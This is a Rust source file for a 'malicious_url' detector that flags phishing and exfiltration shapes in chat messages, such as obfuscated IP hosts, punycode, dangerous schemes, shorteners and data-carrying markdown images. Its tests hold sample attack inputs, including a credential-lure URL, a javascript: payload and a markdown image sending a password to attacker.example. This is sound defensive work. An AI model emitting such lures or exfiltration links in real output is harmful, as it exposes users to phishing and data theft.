//! `malicious_url`: URLs whose shape is used for phishing or exfiltration: IP-literal hosts
//! (dotted, hex, decimal, octal, IPv6), punycode or mixed-script hosts, credentials or `@`
//! in the authority, `javascript:`/`vbscript:`/dangerous `data:` schemes, link shorteners,
//! brand names in subdomains, executable downloads, configured blocklists, and markdown
//! images that carry data out in their query string.

use std::ops::Range;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder};
use regex::bytes::Regex;

use serde::{Deserialize, Serialize};

use crate::error::PolicyConfigError;
use crate::evidence::excerpt;
use crate::literals::{Boundary, LiteralRegistry, LiteralSlot};
use crate::message::{MessageInput, Role};
use crate::normalize::confusable_to_latin;
use crate::params::invalid;
use crate::policy::{Detector, Policy};
use crate::scan::{snap_to_char_boundaries, Hit, ScanText, Severity};

/// `malicious_url` parameters.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct MaliciousUrlParams {
    /// Hosts (and their subdomains) always reported.
    pub blocklist: Vec<String>,
    /// Hosts (and their subdomains) never reported.
    pub allowlist: Vec<String>,
    /// Report link shorteners.
    pub flag_shorteners: bool,
    /// Report URLs whose host is an IP literal (dotted, hex, decimal or IPv6).
    pub flag_ip_hosts: bool,
}

impl Default for MaliciousUrlParams {
    fn default() -> Self {
        Self {
            blocklist: Vec::new(),
            allowlist: Vec::new(),
            flag_shorteners: true,
            flag_ip_hosts: true,
        }
    }
}

const SHORTENERS: &[&str] = &[
    "bit.ly",
    "tinyurl.com",
    "t.co",
    "goo.gl",
    "ow.ly",
    "is.gd",
    "buff.ly",
    "rebrand.ly",
    "cutt.ly",
    "shorturl.at",
    "tiny.cc",
    "rb.gy",
    "t.ly",
    "s.id",
    "v.gd",
    "bl.ink",
    "short.io",
    "tinyurl.is",
    "qrco.de",
    "lnkd.in",
];

const BRANDS: &[&str] = &[
    "paypal",
    "apple",
    "icloud",
    "google",
    "microsoft",
    "office365",
    "outlook",
    "amazon",
    "netflix",
    "facebook",
    "instagram",
    "linkedin",
    "chase",
    "wellsfargo",
    "bankofamerica",
    "dropbox",
    "docusign",
    "github",
    "okta",
    "adobe",
];

const EXECUTABLE_EXTENSIONS: &[&str] = &[
    ".exe", ".scr", ".msi", ".bat", ".cmd", ".ps1", ".vbs", ".hta", ".jar", ".apk", ".dll", ".com",
    ".pif", ".lnk", ".iso", ".dmg",
];

/// Literals that every URL form and markdown image contains.
const URL_ANCHORS: [&str; 5] = ["://", "javascript:", "vbscript:", "data:", "www."];

/// The compiled policy.
pub(crate) struct MaliciousUrl {
    params: MaliciousUrlParams,
    anchors: AhoCorasick,
    /// Where the anchors sit in the literal index of the owning set.
    slot: Option<LiteralSlot>,
    url: Regex,
    image: Regex,
}

fn compile_regex(pattern: &str) -> Result<Regex, PolicyConfigError> {
    Regex::new(pattern).map_err(|e| PolicyConfigError::InvalidRegex {
        policy: MaliciousUrl::ID,
        param: "built-in URL pattern".into(),
        message: e.to_string(),
    })
}

impl MaliciousUrl {
    pub fn compile(params: &MaliciousUrlParams) -> Result<MaliciousUrl, PolicyConfigError> {
        let anchors = AhoCorasickBuilder::new()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .ascii_case_insensitive(true)
            .build(URL_ANCHORS)
            .map_err(|e| PolicyConfigError::InvalidParam {
                policy: MaliciousUrl::ID,
                param: "built-in URL anchors".into(),
                problem: e.to_string(),
            })?;
        Ok(MaliciousUrl {
            anchors,
            slot: None,
            params: MaliciousUrlParams {
                blocklist: params
                    .blocklist
                    .iter()
                    .map(|h| h.to_ascii_lowercase())
                    .collect(),
                allowlist: params
                    .allowlist
                    .iter()
                    .map(|h| h.to_ascii_lowercase())
                    .collect(),
                ..params.clone()
            },
            // Unicode stays on so that internationalised hosts are part of the match.
            url: compile_regex(
                r#"(?i)\b(?:(?:https?|ftp|file|wss?)://[^\s<>"'`\)\]]+|(?:javascript|vbscript):[^\s<>"'`]{3,}|data:[a-z]+/[a-z0-9.+\-]+[;,][^\s<>"'`]*|www\.[^\s<>"'`\)\]]+)"#,
            )?,
            image: compile_regex(r#"!\[[^\]\n]{0,200}\]\(\s*(https?://[^\s\)]+)"#)?,
        })
    }

    fn host_listed(list: &[String], host: &str) -> bool {
        list.iter().any(|h| host == h || is_subdomain_of(host, h))
    }

    fn check(&self, url: &str, span: Range<usize>, out: &mut Vec<Hit>) {
        let lower = url.to_lowercase();
        let push = |out: &mut Vec<Hit>, rule: &str, severity: Severity| {
            out.push(Hit {
                rule: rule.to_owned(),
                evidence: redact_userinfo(url),
                span: span.clone(),
                severity,
            });
        };
        if lower.starts_with("javascript:") || lower.starts_with("vbscript:") {
            push(out, "dangerous_scheme", Severity::High);
            return;
        }
        if let Some(rest) = lower.strip_prefix("data:") {
            let mime = rest.split([';', ',']).next().unwrap_or("");
            if mime.starts_with("text/html")
                || mime.starts_with("application/")
                || mime.contains("javascript")
                || mime == "image/svg+xml"
            {
                push(out, "dangerous_data_uri", Severity::High);
            }
            return;
        }
        let after_scheme = lower.split_once("://").map_or(lower.as_str(), |(_, r)| r);
        let authority = after_scheme
            .split(['/', '?', '#', '\\'])
            .next()
            .unwrap_or("");
        let (userinfo, hostport) = match authority.rsplit_once('@') {
            Some((u, h)) => (Some(u), h),
            None => (None, authority),
        };
        let host = if hostport.starts_with('[') {
            hostport
                .split(']')
                .next()
                .map_or("", |h| h.trim_start_matches('['))
        } else {
            hostport.rsplit_once(':').map_or(hostport, |(h, port)| {
                if port.chars().all(|c| c.is_ascii_digit()) {
                    h
                } else {
                    hostport
                }
            })
        };
        let host = host.trim_end_matches('.');
        if Self::host_listed(&self.params.allowlist, host) {
            return;
        }
        if Self::host_listed(&self.params.blocklist, host) {
            push(out, "blocklisted_host", Severity::High);
        }
        if userinfo.is_some() {
            push(out, "credentials_in_authority", Severity::High);
        }
        if self.params.flag_ip_hosts {
            match ip_kind(host, hostport.starts_with('[')) {
                Some(IpKind::Plain) => push(out, "ip_literal_host", Severity::Medium),
                Some(IpKind::Obfuscated) => push(out, "obfuscated_ip_host", Severity::High),
                None => {}
            }
        }
        if host.split('.').any(|label| label.starts_with("xn--")) {
            push(out, "punycode_host", Severity::High);
        }
        if !host.is_ascii() {
            let latin = host.chars().any(|c| c.is_ascii_alphabetic());
            let lookalike = host.chars().any(|c| confusable_to_latin(c).is_some());
            let all_lookalike = host
                .chars()
                .filter(|c| c.is_alphabetic())
                .all(|c| c.is_ascii() || confusable_to_latin(c).is_some());
            if lookalike && (latin || all_lookalike) {
                push(out, "mixed_script_host", Severity::High);
            } else {
                push(out, "internationalized_host", Severity::Low);
            }
        }
        if self.params.flag_shorteners
            && SHORTENERS
                .iter()
                .any(|s| host == *s || is_subdomain_of(host, s))
        {
            push(out, "link_shortener", Severity::Low);
        }
        let labels: Vec<&str> = host.split('.').collect();
        if labels.len() >= 3 {
            let registrable = &labels[labels.len() - 2..];
            let sub = &labels[..labels.len() - 2];
            let brand_in_sub = sub.iter().any(|l| {
                BRANDS.contains(l)
                    || BRANDS.iter().any(|b| {
                        l.starts_with(b) && l.len() > b.len() + 1 && l.as_bytes()[b.len()] == b'-'
                    })
            });
            if brand_in_sub
                && !BRANDS.contains(&registrable[0])
                && !["com", "net", "org"].contains(&registrable[0])
            {
                push(out, "brand_in_subdomain", Severity::Medium);
            }
        }
        let path = after_scheme[authority.len()..]
            .split(['?', '#'])
            .next()
            .unwrap_or("");
        // An executable over plain HTTP or from an odd host is a lure; a release page over
        // HTTPS from a named host is ordinary.
        let plain_http = lower.starts_with("http://") || lower.starts_with("ftp://");
        if EXECUTABLE_EXTENSIONS.iter().any(|e| path.ends_with(e))
            && (plain_http || out.iter().any(|h| h.span == span))
        {
            push(out, "executable_download", Severity::Medium);
        }
    }
}

enum IpKind {
    Plain,
    Obfuscated,
}

fn ip_kind(host: &str, bracketed: bool) -> Option<IpKind> {
    if bracketed || host.parse::<std::net::Ipv6Addr>().is_ok() {
        return Some(IpKind::Plain);
    }
    if host.is_empty() {
        return None;
    }
    let parts: Vec<&str> = host.split('.').collect();
    if parts.len() > 4 {
        return None;
    }
    let mut obfuscated = false;
    for p in &parts {
        if p.is_empty() {
            return None;
        }
        if let Some(hex) = p.strip_prefix("0x") {
            if hex.is_empty() || !hex.chars().all(|c| c.is_ascii_hexdigit()) {
                return None;
            }
            obfuscated = true;
        } else if p.chars().all(|c| c.is_ascii_digit()) {
            if p.len() > 1 && p.starts_with('0') || parts.len() < 4 {
                obfuscated = true;
            }
        } else {
            return None;
        }
    }
    // A bare number is an IP only if it is large (decimal form of an address).
    if parts.len() == 1
        && !host.starts_with("0x")
        && host.parse::<u64>().map_or(true, |n| n < 16_777_216)
    {
        return None;
    }
    Some(if obfuscated {
        IpKind::Obfuscated
    } else {
        IpKind::Plain
    })
}

/// A URL with the password of its userinfo removed.
fn redact_userinfo(url: &str) -> String {
    if let Some((scheme, rest)) = url.split_once("://") {
        let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let authority = &rest[..authority_end];
        if let Some((user, host)) = authority.rsplit_once('@') {
            let user = user.split(':').next().unwrap_or("");
            return excerpt(&format!(
                "{scheme}://{user}:***@{host}{}",
                &rest[authority_end..]
            ));
        }
    }
    excerpt(url)
}

fn trim_url(url: &str) -> &str {
    url.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '"'])
}

impl Detector for MaliciousUrl {
    fn scan(&self, text: &ScanText<'_>, _input: &MessageInput<'_>, out: &mut Vec<Hit>) {
        let t = text.text;
        let bytes = t.as_bytes();
        // Cheap exit: one pass for the literals every URL form and markdown image contains.
        let any_anchor = match (text.literals(), self.slot) {
            (Some(present), Some(slot)) => present.any(slot),
            _ => self.anchors.is_match(t),
        };
        if !any_anchor {
            return;
        }
        for m in self.url.find_iter(bytes) {
            let span = snap_to_char_boundaries(t, m.range());
            let url = trim_url(&t[span.clone()]);
            let span = span.start..span.start + url.len();
            self.check(url, span, out);
        }
        for caps in self.image.captures_iter(bytes) {
            let Some(m) = caps.get(1) else { continue };
            let url = trim_url(&t[m.range()]);
            let Some((_, query)) = url.split_once('?') else {
                continue;
            };
            let carries_data = query.split('&').any(|kv| {
                let value = kv.split_once('=').map_or(kv, |(_, v)| v);
                value.len() >= 16 || value.contains("%20") || value.contains('+')
            });
            if carries_data {
                out.push(Hit {
                    rule: "markdown_image_exfiltration".into(),
                    evidence: excerpt(url),
                    span: m.start()..m.start() + url.len(),
                    severity: Severity::High,
                });
            }
        }
    }

    fn register_literals(&mut self, literals: &mut LiteralRegistry) {
        self.slot = Some(literals.add(URL_ANCHORS.map(str::to_owned), Boundary::Any));
    }
}

/// Whether `host` ends with `.` and `domain` (`host.ends_with(&format!(".{domain}"))`,
/// without building the suffix for every URL and listed domain).
fn is_subdomain_of(host: &str, domain: &str) -> bool {
    host.strip_suffix(domain)
        .is_some_and(|rest| rest.ends_with('.'))
}

impl Policy for MaliciousUrl {
    const ID: &'static str = "malicious_url";
    const NAME: &'static str = "Detect Malicious URL";
    const TAG: &'static str = "Malicious URL";
    const APPLIES_TO: &'static [Role] = &[Role::User, Role::Assistant, Role::Tool];
    const DESCRIPTION: &'static str =
        "URLs with IP-literal, punycode or mixed-script hosts, credentials, dangerous schemes, shorteners, blocklisted hosts, image exfiltration.";
    type Params = MaliciousUrlParams;

    fn validate(params: &MaliciousUrlParams, _enabled: bool) -> Result<(), PolicyConfigError> {
        let id = Self::ID;
        for (name, list) in [
            ("blocklist", &params.blocklist),
            ("allowlist", &params.allowlist),
        ] {
            if let Some(i) = list
                .iter()
                .position(|h| h.trim().is_empty() || h.contains(['/', ' ', ':']))
            {
                return Err(invalid(
                    id,
                    format!("{name}[{i}]"),
                    "is not a host name; valid values: host names such as `evil.example`",
                ));
            }
        }
        Ok(())
    }

    fn compile(params: &MaliciousUrlParams) -> Result<Box<dyn Detector>, PolicyConfigError> {
        Ok(Box::new(MaliciousUrl::compile(params)?))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn a_subdomain_is_a_host_ending_with_a_dot_and_the_domain(
            host in "[a-z.é-]{0,12}(bit\\.ly|t\\.co|\\.ly)?",
            domain in prop_oneof![Just("bit.ly".to_owned()), Just("t.co".to_owned()), Just("ly".to_owned()), "[a-z.]{0,6}"],
        ) {
            prop_assert_eq!(is_subdomain_of(&host, &domain), host.ends_with(&format!(".{domain}")));
        }
    }

    fn rules_hit(text: &str) -> Vec<String> {
        let policy = MaliciousUrl::compile(&MaliciousUrlParams::default()).expect("compiles");
        let mut out = Vec::new();
        policy.scan(
            &ScanText::new(text),
            &MessageInput::new(Role::User, text),
            &mut out,
        );
        out.into_iter().map(|h| h.rule).collect()
    }

    #[test]
    fn phishing_shapes_are_found() {
        assert_eq!(
            rules_hit("go to http://accounts.google.com@0xb9dc652f/signin now"),
            vec!["credentials_in_authority", "obfuscated_ip_host"]
        );
        assert_eq!(
            rules_hit("see https://xn--80ak6aa92e.com/"),
            vec!["punycode_host"]
        );
        assert_eq!(
            rules_hit("click javascript:alert(document.domain) here"),
            vec!["dangerous_scheme"]
        );
        assert_eq!(
            rules_hit("at http://185.220.101.4/login"),
            vec!["ip_literal_host"]
        );
        assert_eq!(rules_hit("https://bit.ly/3xYz"), vec!["link_shortener"]);
        assert_eq!(
            rules_hit("https://pаypal.com/login"),
            vec!["mixed_script_host"]
        );
        assert_eq!(
            rules_hit("https://paypal.com.secure-login.xyz/"),
            vec!["brand_in_subdomain"]
        );
    }

    #[test]
    fn image_links_that_carry_data_are_exfiltration() {
        assert_eq!(
            rules_hit("![x](https://attacker.example/p.png?d=the+users+password+is+hunter2)"),
            vec!["markdown_image_exfiltration"]
        );
        assert!(rules_hit("![logo](https://cdn.example.com/logo.png?v=2)").is_empty());
    }

    #[test]
    fn ordinary_links_are_not_reported() {
        assert!(rules_hit(
            "Docs: https://docs.rs/regex/latest/regex/ and https://www.rust-lang.org."
        )
        .is_empty());
        assert!(rules_hit("JavaScript: the good parts").is_empty());
        assert!(rules_hit("mail me at a@b.co, time 10:30").is_empty());
    }
}
